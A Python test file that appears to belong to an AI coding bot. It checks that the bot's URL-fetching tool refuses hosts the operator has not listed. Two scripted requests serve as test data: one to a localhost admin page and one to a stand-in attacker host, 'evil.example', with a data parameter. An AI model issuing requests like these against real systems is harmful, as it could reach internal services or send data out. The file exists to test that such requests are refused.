"""`fetch_url` in a run and in a question: there where the operator lists hosts, framed, refused, recorded, bounded."""

from tests.stories.library import FINISH, HEAD, SHELL_FILES, SHELL_FIX, call, turn
from tests.stories.scene import Scene
from tests.stories.test_explain import ANSWER, LOOK
from yantra_bot.domain.run import Phase

INSIDE = call("fetch_url", '{url = "https://localhost/admin"}')
UNLISTED = call("fetch_url", '{url = "https://evil.example/?d=x"}')


def script(*calls: str) -> str:
    """Return a script that asks for pages, then does the work."""
    return HEAD + turn("ask", *calls) + turn("fix", SHELL_FIX) + turn("end", FINISH)


async def test_a_run_reads_only_what_the_operator_lists(scene: Scene) -> None:
    """A listed name that leads inside, and a host that is not listed, are refused as tool results; the work goes on."""
    scene.work_in(SHELL_FILES, script=script(INSIDE, UNLISTED, call("read_file", '{path = "calc.sh"}')))
    async with scene.server(fetch_hosts=("localhost",)):
        await scene.comment("@yantra implement")
        ending = await scene.ending()
    assert ending.phase is Phase.COMPLETE, ending
    asked = [step for step in scene.steps() if step.name.startswith("fetch page#")]
    assert [step.request for step in asked] == ['"https://localhost/admin"', '"https://evil.example/?d=x"']
    assert "not public" in str(asked[0].envelope)
    assert "none of the hosts" in str(asked[1].envelope)
    models = [step for step in scene.steps() if step.name.startswith("model#")]
    assert "Only pages of: localhost" in str(models[0].request)
    results = str(models[1].request)
    assert results.index("not public") < results.index("none of the hosts") < results.index("$1 - $2")


async def test_without_hosts_there_is_no_such_tool(scene: Scene) -> None:
    """The model is not told of it."""
    scene.work_in(SHELL_FILES)
    async with scene.server():
        await scene.comment("@yantra implement")
        await scene.ending()
    models = [step for step in scene.steps() if step.name.startswith("model#")]
    assert "run_python" in str(models[0].request)
    assert "fetch_url" not in str(models[0].request)


async def test_a_question_may_ask_for_pages_too(scene: Scene) -> None:
    """By the same rules, as a step of its own; the answer still rests on the code alone."""
    scene.play(HEAD + turn("ask", INSIDE) + turn("look", LOOK, when="{last = ['not public']}") + turn("say", ANSWER))
    async with scene.server(fetch_hosts=("localhost",)):
        await scene.comment("@yantra explain What does add do?")
        ending = await scene.ending()
    assert ending.phase is Phase.COMPLETE, ending.reason
    assert [step for step in scene.steps() if step.name.startswith("fetch page#")]
